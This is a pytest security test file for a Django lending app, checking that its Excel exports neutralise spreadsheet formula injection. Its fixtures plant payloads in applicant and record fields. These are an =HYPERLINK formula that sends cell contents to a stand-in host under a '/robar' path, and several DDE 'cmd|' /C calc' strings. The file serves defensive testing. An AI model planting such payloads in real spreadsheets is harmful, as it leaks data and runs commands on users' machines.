"""No cell written from user text is ever a formula: a name planted as `=HYPERLINK(...)` (and its kin)
reaches every Excel export as text, with Excel's quote prefix, never as a formula."""

from __future__ import annotations

import datetime as dt
from decimal import Decimal
from io import BytesIO

import pytest
import time_machine
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from conftest import applicant_data, proposal_data, to_ready
from filon.core.calendar import MEXICO_CITY
from filon.demo.scenarios import loan_disburse

pytestmark = [pytest.mark.security, pytest.mark.django_db]

PLANTED = '=HYPERLINK("http://203.0.113.7/robar?d="&A1,"Ver detalle")'
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(autouse=True)
def _frozen():
    with time_machine.travel(dt.datetime(2026, 3, 3, 11, 0, tzinfo=MEXICO_CITY), tick=False):
        yield


def login(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


@pytest.fixture
def planted(cast, sample_rates):
    """An applicant named with a formula, a loan of theirs disbursed, a course and a visit in its office."""
    from filon.applicants.services import applicant_create
    from filon.goals.services import technical_assistance_record, training_event_record
    from filon.origination.services import file_create
    from filon.servicing.services import commission_pay, loan_create_from_file

    applicant = applicant_create(user=cast.ana, data=applicant_data(name=PLANTED)).obj
    file = file_create(
        user=cast.ana, applicant=applicant, proposal=proposal_data(term_months=36, grace_months=0)
    )
    to_ready(cast, file)
    loan = loan_create_from_file(user=cast.ana, file=file)
    commission_pay(user=cast.ana, loan=loan, value_date=dt.date(2026, 1, 5))
    loan_disburse(
        captured_by=cast.ana,
        released_by=cast.gerardo,
        loan=loan,
        amount=Decimal("12000000"),
        value_date=dt.date(2026, 1, 5),
    )
    training_event_record(
        user=cast.ana,
        office=cast.zac,
        start_date=dt.date(2026, 2, 23),
        title="+cmd|' /C calc'!A0",
        municipality="@SUM(1+1)*cmd|' /C calc'!A0",
        state="ZAC",
        hours=Decimal("8"),
    )
    technical_assistance_record(
        user=cast.ana,
        office=cast.zac,
        applicant=applicant,
        date=dt.date(2026, 1, 20),
        kind="safety",
        advisor="-2+3+cmd|' /C calc'!A0",
        findings="\t=1+1",
    )
    return loan


def _exports(cast, loan) -> dict[str, bytes]:
    ana, omar = login(cast.ana), login(cast.omar)
    urls = {
        "cartera": (ana, reverse("web:portfolio_xlsx")),
        "expedientes": (ana, reverse("web:pipeline_xlsx")),
        "tabla": (ana, reverse("web:loan_schedule_xlsx", args=[loan.pk])),
        "metas": (omar, reverse("web:scorecard_xlsx") + "?year=2026"),
    }
    out = {}
    for name, (client, url) in urls.items():
        response = client.get(url)
        assert response.status_code == 200, (name, response.status_code)
        out[name] = b"".join(response.streaming_content) if response.streaming else response.content
    return out


def test_no_export_holds_a_formula_and_the_planted_text_stays_text(cast, planted):
    seen_planted = set()
    for name, content in _exports(cast, planted).items():
        wb = load_workbook(BytesIO(content))
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (name, ws.title, cell.coordinate, cell.value)
                    if isinstance(cell.value, str) and cell.value.startswith(DANGEROUS):
                        assert cell.data_type == "s", (name, cell.coordinate)
                        assert cell.quotePrefix, (name, ws.title, cell.coordinate, cell.value)
                    if cell.value == PLANTED:
                        seen_planted.add(name)
    # the name is kept whole (as text), not mangled, in the exports that show the applicant
    assert {"cartera", "expedientes"} <= seen_planted


@pytest.mark.pure
def test_numbers_stay_numbers_and_only_strings_are_neutralised():
    from openpyxl import Workbook

    from filon.documents.excel import workbook_bytes

    wb = Workbook()
    wb.active.append([Decimal("-1500.25"), -3, "-3", "=1+1", "normal", "\tx", None])
    cells = next(load_workbook(BytesIO(workbook_bytes(wb))).active.iter_rows())
    assert [c.value for c in cells[:6]] == [-1500.25, -3, "-3", "=1+1", "normal", "\tx"]
    assert [c.data_type for c in cells[:6]] == ["n", "n", "s", "s", "s", "s"]
    assert [bool(c.quotePrefix) for c in cells[:6]] == [False, False, True, True, False, True]
